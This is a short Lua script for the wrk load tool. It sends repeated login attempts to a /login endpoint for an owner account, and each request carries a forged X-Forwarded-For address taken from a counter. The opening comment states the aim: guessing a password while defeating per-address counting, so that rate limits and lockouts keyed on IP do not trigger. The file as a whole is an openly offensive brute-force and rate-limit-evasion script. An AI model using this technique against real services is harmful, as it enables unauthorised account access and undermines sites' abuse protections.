-- Guesses a password, from ever new addresses behind a proxy, so that counting by address does not help.

local turn = 0

function request()
  turn = turn + 1
  local address = string.format("10.%d.%d.%d", turn / 62500 % 250, turn / 250 % 250, turn % 250)
  local headers = { ["X-Forwarded-For"] = address, ["Content-Type"] = "application/x-www-form-urlencoded" }
  return wrk.format("POST", "/login", headers, "email=owner%40example.com&password=a+wrong+guess+of+mine")
end

